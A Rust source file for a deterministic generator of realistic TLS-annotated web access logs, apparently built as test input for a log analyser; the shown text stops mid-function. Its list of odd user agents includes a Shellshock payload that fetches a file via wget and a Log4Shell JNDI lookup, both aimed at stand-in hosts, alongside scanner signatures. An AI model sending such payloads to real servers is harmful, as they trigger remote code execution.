//! `loggen`: a seeded generator of realistic TLS-annotated access logs.
//!
//! Writes Apache "combinedssl" lines
//! (`%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" %{SSL_PROTOCOL}x %{SSL_CIPHER}x`)
//! or nginx `combined` + ` $ssl_protocol $ssl_cipher` lines to stdout.
//! The same arguments always give byte-identical output. It has no dependencies and
//! is deliberately independent of tlsgap's own code, so it can be used to test it.

use std::io::{self, Write};
use std::process::ExitCode;

const USAGE: &str = "\
loggen: seeded generator of realistic TLS access logs (Apache combinedssl / nginx)

USAGE: loggen [OPTIONS] > access.log

OPTIONS:
  --lines N         number of lines to write (suffixes k, M, G allowed) [default: 1000000]
  --seed S          PRNG seed; the same seed gives byte-identical output [default: 42]
  --malformed PM    malformed lines per mille (0..=1000) [default: 1]
  --format F        combinedssl | nginx-ssl [default: combinedssl]
  --start SECS      epoch seconds of the first line [default: 1795212000 = 2026-11-21 00:00 +0200]
  --tz +HHMM        UTC offset written in the timestamps [default: +0200]
  --rate N          average lines per second (varies over the day) [default: 50]
  -h, --help        print this help
";

// ---------------------------------------------------------------------------
// PRNG: xoshiro256** seeded through splitmix64.
// ---------------------------------------------------------------------------

#[derive(Debug, Clone)]
struct Rng {
    s: [u64; 4],
}

impl Rng {
    fn new(seed: u64) -> Self {
        let mut sm = seed;
        let mut next = || {
            sm = sm.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = sm;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        };
        Rng {
            s: [next(), next(), next(), next()],
        }
    }

    #[inline]
    fn next_u64(&mut self) -> u64 {
        let result = self.s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
        let t = self.s[1] << 17;
        self.s[2] ^= self.s[0];
        self.s[3] ^= self.s[1];
        self.s[1] ^= self.s[2];
        self.s[0] ^= self.s[3];
        self.s[2] ^= t;
        self.s[3] = self.s[3].rotate_left(45);
        result
    }

    /// Uniform in `0..n` (multiply-shift; the bias is negligible for our n).
    #[inline]
    fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform in `lo..=hi`.
    #[inline]
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    /// True with probability `per_10k / 10000`.
    #[inline]
    fn chance(&mut self, per_10k: u64) -> bool {
        self.below(10_000) < per_10k
    }

    #[inline]
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }

    /// Picks from a small `(value, weight)` table.
    fn weighted<T: Copy>(&mut self, table: &[(T, u32)]) -> T {
        let total: u64 = table.iter().map(|&(_, w)| u64::from(w)).sum();
        let mut r = self.below(total);
        for &(v, w) in table {
            let w = u64::from(w);
            if r < w {
                return v;
            }
            r -= w;
        }
        table[table.len() - 1].0
    }
}

/// Cumulative integer weights: exact, platform-independent sampling.
#[derive(Debug, Clone)]
struct Cdf {
    cum: Vec<u64>,
}

impl Cdf {
    fn new(weights: impl IntoIterator<Item = u64>) -> Self {
        let mut total = 0u64;
        let cum: Vec<u64> = weights
            .into_iter()
            .map(|w| {
                total += w;
                total
            })
            .collect();
        assert!(total > 0, "empty weight table");
        Cdf { cum }
    }

    /// Zipf–Mandelbrot popularity (weight ∝ 1 / (rank + 3)): a heavy head, a long tail.
    fn zipf(n: usize) -> Self {
        Self::new((0..n as u64).map(|i| (1u64 << 40) / (i + 3)))
    }

    #[inline]
    fn pick(&self, rng: &mut Rng) -> usize {
        let r = rng.below(*self.cum.last().expect("non-empty"));
        self.cum.partition_point(|&c| c <= r)
    }
}

// ---------------------------------------------------------------------------
// Configuration
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Format {
    Apache,
    Nginx,
}

#[derive(Debug, Clone)]
struct Config {
    lines: u64,
    seed: u64,
    malformed_per_mille: u32,
    format: Format,
    start: i64,
    tz_secs: i64,
    tz_text: [u8; 5],
    rate: u32,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            lines: 1_000_000,
            seed: 42,
            malformed_per_mille: 1,
            format: Format::Apache,
            start: 1_795_212_000,
            tz_secs: 7200,
            tz_text: *b"+0200",
            rate: 50,
        }
    }
}

fn parse_count(s: &str) -> Result<u64, String> {
    let s = s.replace('_', "");
    let (num, mul) = match s.as_bytes().last() {
        Some(b'k' | b'K') => (&s[..s.len() - 1], 1_000),
        Some(b'm' | b'M') => (&s[..s.len() - 1], 1_000_000),
        Some(b'g' | b'G') => (&s[..s.len() - 1], 1_000_000_000),
        _ => (&s[..], 1),
    };
    num.parse::<u64>()
        .ok()
        .and_then(|n| n.checked_mul(mul))
        .ok_or_else(|| format!("not a count: {s:?}"))
}

fn parse_tz(s: &str) -> Result<(i64, [u8; 5]), String> {
    let b = s.as_bytes();
    let ok =
        b.len() == 5 && (b[0] == b'+' || b[0] == b'-') && b[1..].iter().all(u8::is_ascii_digit);
    if !ok {
        return Err(format!("--tz wants +HHMM or -HHMM, got {s:?}"));
    }
    let hh = i64::from(b[1] - b'0') * 10 + i64::from(b[2] - b'0');
    let mm = i64::from(b[3] - b'0') * 10 + i64::from(b[4] - b'0');
    if hh > 14 || mm > 59 {
        return Err(format!("--tz out of range: {s:?}"));
    }
    let secs = (hh * 3600 + mm * 60) * if b[0] == b'-' { -1 } else { 1 };
    let mut text = [0u8; 5];
    text.copy_from_slice(b);
    Ok((secs, text))
}

/// `Ok(None)` means help was requested.
fn parse_args(args: &[String]) -> Result<Option<Config>, String> {
    let mut cfg = Config::default();
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "-h" || arg == "--help" {
            return Ok(None);
        }
        let (key, inline) = match arg.split_once('=') {
            Some((k, v)) if k.starts_with("--") => (k, Some(v.to_string())),
            _ => (arg, None),
        };
        let value = match inline {
            Some(v) => v,
            None => {
                i += 1;
                args.get(i)
                    .cloned()
                    .ok_or_else(|| format!("{key} needs a value"))?
            }
        };
        match key {
            "--lines" => cfg.lines = parse_count(&value)?,
            "--seed" => cfg.seed = parse_count(&value)?,
            "--malformed" => {
                let pm = parse_count(&value)?;
                if pm > 1000 {
                    return Err("--malformed is per mille: 0..=1000".into());
                }
                cfg.malformed_per_mille = pm as u32;
            }
            "--format" => {
                cfg.format = match value.as_str() {
                    "combinedssl" | "apache" => Format::Apache,
                    "nginx-ssl" | "nginx" => Format::Nginx,
                    other => return Err(format!("unknown --format {other:?}")),
                }
            }
            "--start" => {
                cfg.start = value
                    .parse::<i64>()
                    .ok()
                    .filter(|&s| (0..253_402_300_000).contains(&s))
                    .ok_or_else(|| format!("--start wants epoch seconds, got {value:?}"))?
            }
            "--tz" => (cfg.tz_secs, cfg.tz_text) = parse_tz(&value)?,
            "--rate" => {
                let r = parse_count(&value)?;
                if r == 0 || r > 10_000_000 {
                    return Err("--rate must be 1..=10000000".into());
                }
                cfg.rate = r as u32;
            }
            other => return Err(format!("unknown option {other:?}")),
        }
        i += 1;
    }
    Ok(Some(cfg))
}

// ---------------------------------------------------------------------------
// Protocols and ciphers
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Proto {
    Tls13,
    Tls12,
    Tls11,
    Tls1,
    Ssl3,
    Plain,
}

/// Share of lines per protocol, per 10 000.
const PROTO_MIX: [(Proto, u32); 6] = [
    (Proto::Tls13, 6050),
    (Proto::Tls12, 3350),
    (Proto::Tls11, 70),
    (Proto::Tls1, 280),
    (Proto::Ssl3, 50),
    (Proto::Plain, 200),
];

const TLS13_CIPHERS: &[(&str, u32)] = &[
    ("TLS_AES_128_GCM_SHA256", 600),
    ("TLS_AES_256_GCM_SHA384", 300),
    ("TLS_CHACHA20_POLY1305_SHA256", 100),
];
const TLS12_CIPHERS: &[(&str, u32)] = &[
    ("ECDHE-RSA-AES128-GCM-SHA256", 380),
    ("ECDHE-ECDSA-AES128-GCM-SHA256", 140),
    ("ECDHE-RSA-AES256-GCM-SHA384", 190),
    ("ECDHE-ECDSA-AES256-GCM-SHA384", 40),
    ("ECDHE-RSA-CHACHA20-POLY1305", 50),
    ("ECDHE-ECDSA-CHACHA20-POLY1305", 40),
    ("DHE-RSA-AES256-GCM-SHA384", 30),
    ("DHE-RSA-AES128-GCM-SHA256", 10),
    ("ECDHE-RSA-AES128-SHA256", 20),
    ("ECDHE-RSA-AES256-SHA384", 20),
    ("AES128-GCM-SHA256", 30),
    ("AES256-GCM-SHA384", 20),
    ("ECDHE-RSA-AES128-SHA", 10),
    ("ECDHE-RSA-AES256-SHA", 5),
    ("AES128-SHA", 10),
    ("AES256-SHA256", 5),
];
const TLS11_CIPHERS: &[(&str, u32)] = &[
    ("ECDHE-RSA-AES128-SHA", 35),
    ("ECDHE-RSA-AES256-SHA", 25),
    ("AES128-SHA", 15),
    ("AES256-SHA", 10),
    ("DHE-RSA-AES256-SHA", 8),
    ("DES-CBC3-SHA", 5),
    ("DHE-RSA-AES128-SHA", 2),
];
const TLS1_CIPHERS: &[(&str, u32)] = &[
    ("ECDHE-RSA-AES128-SHA", 20),
    ("ECDHE-RSA-AES256-SHA", 25),
    ("AES128-SHA", 15),
    ("AES256-SHA", 12),
    ("DHE-RSA-AES256-SHA", 8),
    ("DHE-RSA-AES128-SHA", 3),
    ("DES-CBC3-SHA", 8),
    ("EDH-RSA-DES-CBC3-SHA", 2),
    ("RC4-SHA", 5),
    ("RC4-MD5", 2),
];
const SSL3_CIPHERS: &[(&str, u32)] = &[
    ("RC4-SHA", 35),
    ("RC4-MD5", 25),
    ("DES-CBC3-SHA", 25),
    ("AES128-SHA", 5),
    ("AES256-SHA", 5),
    ("EDH-RSA-DES-CBC3-SHA", 3),
    ("DHE-RSA-AES256-SHA", 2),
];
/// Windows XP's SChannel (MSIE 6-8) knows no AES.
const XP_CIPHERS: &[(&str, u32)] = &[("RC4-SHA", 50), ("RC4-MD5", 20), ("DES-CBC3-SHA", 30)];

impl Proto {
    fn index(self) -> usize {
        PROTO_MIX
            .iter()
            .position(|&(p, _)| p == self)
            .expect("listed")
    }

    fn name(self) -> &'static str {
        match self {
            Proto::Tls13 => "TLSv1.3",
            Proto::Tls12 => "TLSv1.2",
            Proto::Tls11 => "TLSv1.1",
            Proto::Tls1 => "TLSv1",
            Proto::Ssl3 => "SSLv3",
            Proto::Plain => "-",
        }
    }

    fn ciphers(self) -> &'static [(&'static str, u32)] {
        match self {
            Proto::Tls13 => TLS13_CIPHERS,
            Proto::Tls12 => TLS12_CIPHERS,
            Proto::Tls11 => TLS11_CIPHERS,
            Proto::Tls1 => TLS1_CIPHERS,
            Proto::Ssl3 => SSL3_CIPHERS,
            Proto::Plain => &[("-", 1)],
        }
    }
}

// ---------------------------------------------------------------------------
// Escaping, as the servers do it
// ---------------------------------------------------------------------------

/// Apache `ap_escape_logitem`: `\"`, `\\`, C escapes, other control bytes, DEL and
/// bytes >= 0x80 as lowercase `\xhh`. nginx `escape=default`: `"`, `\`, control
/// bytes, DEL and bytes >= 0x80 as uppercase `\xHH`.
fn escape_into(out: &mut Vec<u8>, raw: &[u8], fmt: Format) {
    const LOWER: &[u8; 16] = b"0123456789abcdef";
    const UPPER: &[u8; 16] = b"0123456789ABCDEF";
    for &b in raw {
        let plain = (0x20..0x7f).contains(&b) && b != b'"' && b != b'\\';
        if plain {
            out.push(b);
            continue;
        }
        match fmt {
            Format::Apache => match b {
                b'"' => out.extend_from_slice(b"\\\""),
                b'\\' => out.extend_from_slice(b"\\\\"),
                0x08 => out.extend_from_slice(b"\\b"),
                b'\n' => out.extend_from_slice(b"\\n"),
                b'\r' => out.extend_from_slice(b"\\r"),
                b'\t' => out.extend_from_slice(b"\\t"),
                0x0b => out.extend_from_slice(b"\\v"),
                _ => out.extend_from_slice(&[
                    b'\\',
                    b'x',
                    LOWER[usize::from(b >> 4)],
                    LOWER[usize::from(b & 15)],
                ]),
            },
            Format::Nginx => out.extend_from_slice(&[
                b'\\',
                b'x',
                UPPER[usize::from(b >> 4)],
                UPPER[usize::from(b & 15)],
            ]),
        }
    }
}

fn escaped(raw: &[u8], fmt: Format) -> Vec<u8> {
    let mut v = Vec::with_capacity(raw.len() + 8);
    escape_into(&mut v, raw, fmt);
    v
}

#[inline]
fn push_u64(buf: &mut Vec<u8>, mut n: u64) {
    let mut tmp = [0u8; 20];
    let mut i = tmp.len();
    loop {
        i -= 1;
        tmp[i] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    buf.extend_from_slice(&tmp[i..]);
}

#[inline]
fn push2(buf: &mut Vec<u8>, n: u32) {
    buf.push(b'0' + (n / 10 % 10) as u8);
    buf.push(b'0' + (n % 10) as u8);
}

// ---------------------------------------------------------------------------
// Clients: user agents, addresses, users
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Browser,
    Bot,
    Monitor,
    Lib,
    Old,
    Scanner,
    Odd,
}

#[derive(Debug, Clone)]
struct Client {
    /// `%h %l %u ` already rendered, e.g. `203.0.113.9 - - `.
    prefix: Vec<u8>,
    /// The escaped User-Agent, without the quotes.
    ua: Vec<u8>,
    kind: Kind,
    /// Speaks HTTP/2 over TLS.
    h2: bool,
    /// Sends HTTP/1.0.
    http10: bool,
    /// Restricted to Windows XP ciphers.
    xp: bool,
}

/// A user agent as generated, before escaping.
#[derive(Debug)]
struct Ua {
    raw: Vec<u8>,
    h2: bool,
    http10: bool,
    xp: bool,
    /// Address ranges for well-known crawlers: (a, b, c_lo, c_hi).
    v4: &'static [(u8, u8, u8, u8)],
    v6: Option<&'static str>,
    private: bool,
}

impl Ua {
    fn new(raw: impl Into<Vec<u8>>) -> Self {
        Ua {
            raw: raw.into(),
            h2: false,
            http10: false,
            xp: false,
            v4: &[],
            v6: None,
            private: false,
        }
    }
}

struct BotDef {
    ua: &'static str,
    weight: u32,
    v4: &'static [(u8, u8, u8, u8)],
    v6: Option<&'static str>,
}

const BOTS: &[BotDef] = &[
    BotDef {
        ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        weight: 14,
        v4: &[(66, 249, 64, 79)],
        v6: Some("2001:4860:4801:"),
    },
    BotDef {
        ua: "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.204 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        weight: 16,
        v4: &[(66, 249, 64, 79)],
        v6: Some("2001:4860:4801:"),
    },
    BotDef {
        ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
        weight: 10,
        v4: &[(40, 77, 167, 167), (157, 55, 39, 39), (207, 46, 13, 13), (52, 167, 144, 144)],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        weight: 3,
        v4: &[(40, 77, 167, 167), (157, 55, 39, 39), (207, 46, 13, 13)],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        weight: 9,
        v4: &[(54, 36, 148, 149), (51, 222, 253, 253)],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
        weight: 7,
        v4: &[(85, 208, 96, 98), (185, 191, 171, 171)],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        weight: 5,
        v4: &[(5, 255, 231, 231), (213, 180, 203, 203), (87, 250, 224, 224)],
        v6: Some("2a02:6b8:c0e:"),
    },
    BotDef {
        ua: "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
        weight: 3,
        v4: &[(220, 181, 108, 108), (116, 179, 32, 33)],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        weight: 5,
        v4: &[(20, 171, 206, 207)],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
        weight: 3,
        v4: &[],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
        weight: 3,
        v4: &[(114, 119, 128, 191)],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
        weight: 2,
        v4: &[],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
        weight: 2,
        v4: &[],
        v6: None,
    },
    BotDef {
        ua: "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        weight: 4,
        v4: &[(69, 63, 189, 189), (173, 252, 83, 83)],
        v6: Some("2a03:2880:f"),
    },
    BotDef {
        ua: "Twitterbot/1.0",
        weight: 1,
        v4: &[(199, 16, 157, 157)],
        v6: None,
    },
    BotDef {
        ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        weight: 3,
        v4: &[(17, 241, 0, 255)],
        v6: None,
    },
];

const MONITORS: &[(&str, bool, u32)] = &[
    (
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        false,
        4,
    ),
    (
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        false,
        2,
    ),
    ("kube-probe/1.30", true, 3),
    ("ELB-HealthChecker/2.0", true, 3),
    ("Prometheus/2.51.0", true, 1),
    ("Zabbix", true, 1),
];

const SCANNER_UAS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "-",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 Nuclei",
    "python-requests/2.25.1",
    "Go-http-client/1.1",
    "l9explore/1.2.2",
];

/// User agents that need escaping (quotes, backslashes, control and non-ASCII bytes).
const ODD_UAS: &[&[u8]] = &[
    b"Mozilla/5.0 (compatible; \"Scanner\"/1.0; +http://scan.example.net/)",
    b"() { :; }; /bin/bash -c \"wget http://198.51.100.23/b -O /tmp/b\"",
    b"${jndi:ldap://198.51.100.77:1389/a}",
    b"MonAppli/2.1 (Android 13; R\xc3\xa9veil) okhttp/4.9.3",
    b"Mozilla/5.0 (X11; Linux x86_64) C:\\Program Files\\Agent\\agent.exe \"v2\"",
    b"Mozilla/5.0\t(compatible; TabBot/0.1)",
    b"python-requests/2.25.1 \\\"already-escaped\\\"",
    b"Mozilla/5.0 (Linux; Android 12; \xe5\xb0\x8f\xe7\xb1\xb3 12) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\\",
];

fn modern_browser(rng: &mut Rng) -> Ua {
    let chrome = rng.range(124, 143);
    let ff = rng.range(128, 146);
    // Apple went from version 18 straight to 26.
    let safari = *rng.pick(&[17u32, 18, 18, 26, 26, 26, 27]);
    let sm = rng.range(0, 6);
    let template = rng.weighted(&[
        (0u8, 30),
        (1, 8),
        (2, 3),
        (3, 20),
        (4, 7),
        (5, 6),
        (6, 2),
        (7, 1),
        (8, 6),
        (9, 15),
        (10, 2),
        (11, 3),
        (12, 2),
        (13, 1),
    ]);
    let s = match template {
        0 => format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36"),
        1 => format!("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36"),
        2 => format!("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36"),
        3 => format!("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Mobile Safari/537.36"),
        4 => format!(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36 Edg/{chrome}.0.{}.{}",
            rng.range(2000, 3500),
            rng.range(10, 120)
        ),
        5 => format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{ff}.0) Gecko/20100101 Firefox/{ff}.0"),
        6 => format!("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{ff}.0) Gecko/20100101 Firefox/{ff}.0"),
        7 => format!("Mozilla/5.0 (Android 14; Mobile; rv:{ff}.0) Gecko/{ff}.0 Firefox/{ff}.0"),
        8 => format!("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{safari}.{sm} Safari/605.1.15"),
        9 => format!("Mozilla/5.0 (iPhone; CPU iPhone OS {safari}_{sm} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{safari}.{sm} Mobile/15E148 Safari/604.1"),
        10 => format!("Mozilla/5.0 (iPad; CPU OS {safari}_{sm} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{safari}.{sm} Mobile/15E148 Safari/604.1"),
        11 => format!(
            "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/{}.0 Chrome/{chrome}.0.0.0 Mobile Safari/537.36",
            rng.range(24, 29)
        ),
        12 => format!(
            "Mozilla/5.0 (iPhone; CPU iPhone OS {safari}_{sm} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22B83 [FBAN/FBIOS;FBAV/{}.0.0.{}.{};FBBV/{};FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/{safari}.{sm};FBSS/3;FBCR/;FBID/phone;FBLC/en_US;FBOP/5]",
            rng.range(440, 499),
            rng.range(10, 60),
            rng.range(10, 120),
            rng.range(600_000_000, 699_999_999)
        ),
        _ => format!(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36 OPR/{}.0.0.0",
            chrome - 15
        ),
    };
    let mut ua = Ua::new(s);
    ua.h2 = rng.chance(8000);
    ua
}

fn older_browser(rng: &mut Rng) -> Ua {
    let s = match rng.below(8) {
        0 => "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko".to_string(),
        1 => "Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36".to_string(),
        2 => format!(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 12_5_{} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1",
            rng.range(1, 7)
        ),
        3 => format!(
            "Mozilla/5.0 (Linux; Android 7.0; SM-G930F Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.3282.137 Mobile Safari/537.36",
            rng.range(58, 79)
        ),
        4 => "Mozilla/5.0 (Windows NT 5.1; rv:52.0) Gecko/20100101 Firefox/52.0".to_string(),
        5 => "Mozilla/5.0 (SMART-TV; Linux; Tizen 4.0) AppleWebKit/538.1 (KHTML, like Gecko) Version/4.0 TV Safari/538.1".to_string(),
        6 => format!(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.{}.{} Safari/537.36",
            rng.range(60, 69),
            rng.range(3000, 3500),
            rng.range(10, 200)
        ),
        _ => format!(
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_{}_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{}.1.2 Safari/605.1.15",
            rng.range(11, 14),
            rng.range(11, 13)
        ),
    };
    let mut ua = Ua::new(s);
    ua.h2 = rng.chance(5000);
    ua
}

fn library(rng: &mut Rng, proto: Proto) -> Ua {
    let old = matches!(proto, Proto::Tls1 | Proto::Tls11 | Proto::Ssl3);
    if old {
        let (s, http10) = *rng.pick(&[
            ("Java/1.6.0_45", false),
            ("Java/1.7.0_80", false),
            ("curl/7.19.7 (x86_64-redhat-linux-gnu) libcurl/7.19.7 NSS/3.27.1 zlib/1.2.3 libidn/1.18 libssh2/1.4.2", false),
            ("Python-urllib/2.6", false),
            ("Wget/1.12 (linux-gnu)", true),
            ("Microsoft-CryptoAPI/6.1", false),
            ("Apache-HttpClient/4.3.6 (java 1.5)", false),
        ]);
        let mut ua = Ua::new(s);
        ua.http10 = http10;
        return ua;
    }
    let v = |rng: &mut Rng, lo, hi| rng.range(lo, hi);
    let (s, h2) = match rng.below(20) {
        0..=2 => (
            (*rng.pick(&[
                "curl/7.88.1",
                "curl/8.5.0",
                "curl/8.11.1",
                "curl/8.14.1",
                "curl/7.29.0",
                "curl/7.81.0",
            ]))
            .to_string(),
            rng.chance(3000),
        ),
        3..=5 => (
            format!("python-requests/2.{}.{}", v(rng, 18, 32), v(rng, 0, 3)),
            false,
        ),
        6 => ("Go-http-client/1.1".to_string(), false),
        7 => ("Go-http-client/2.0".to_string(), true),
        8 => (
            format!("Java/{}.0.{}", rng.pick(&[11u32, 17, 21]), v(rng, 2, 25)),
            false,
        ),
        9 => (format!("Java/1.8.0_{}", v(rng, 181, 432)), false),
        10 => (
            format!(
                "Apache-HttpClient/4.5.{} (Java/17.0.{})",
                v(rng, 10, 14),
                v(rng, 5, 12)
            ),
            false,
        ),
        11 => (
            format!(
                "okhttp/{}",
                rng.pick(&["4.12.0", "4.9.3", "3.12.1", "5.0.0-alpha.14"])
            ),
            true,
        ),
        12 => ("Wget/1.21.3".to_string(), false),
        13 => (format!("python-urllib3/2.2.{}", v(rng, 1, 3)), false),
        14 => (format!("axios/1.7.{}", v(rng, 2, 9)), false),
        15 => (format!("Dart/3.{} (dart:io)", v(rng, 3, 6)), false),
        16 => (format!("PostmanRuntime/7.{}.0", v(rng, 36, 43)), false),
        17 => (
            format!("Python/3.{} aiohttp/3.9.{}", v(rng, 9, 12), v(rng, 1, 5)),
            false,
        ),
        18 => ("libwww-perl/6.72".to_string(), false),
        _ => ("Microsoft-CryptoAPI/10.0".to_string(), false),
    };
    let mut ua = Ua::new(s);
    ua.h2 = h2;
    ua
}

fn old_client(rng: &mut Rng, proto: Proto) -> Ua {
    match proto {
        Proto::Ssl3 => {
            let mut ua = Ua::new(*rng.pick(&[
                "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
                "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)",
                "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0)",
                "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.2; .NET CLR 1.1.4322; .NET CLR 2.0.50727)",
            ]));
            ua.xp = true;
            ua
        }
        Proto::Tls11 => Ua::new(match rng.below(4) {
            0 => "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko".to_string(),
            1 => format!(
                "Mozilla/5.0 (Linux; U; Android 4.4.{}; en-us; SM-T230 Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Safari/534.30",
                rng.range(2, 4)
            ),
            2 => "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_8_5) AppleWebKit/537.71 (KHTML, like Gecko) Version/6.1 Safari/537.71".to_string(),
            _ => "Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.16".to_string(),
        }),
        _ => match rng.below(7) {
            0 | 1 => {
                let mut ua = Ua::new(*rng.pick(&[
                    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; .NET CLR 2.0.50727)",
                    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)",
                    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; GTB7.5)",
                ]));
                ua.xp = true;
                ua
            }
            2..=4 => {
                let (dev, build) = *rng.pick(&[
                    ("GT-I9100", "IMM76D"),
                    ("GT-I8190", "JZO54K"),
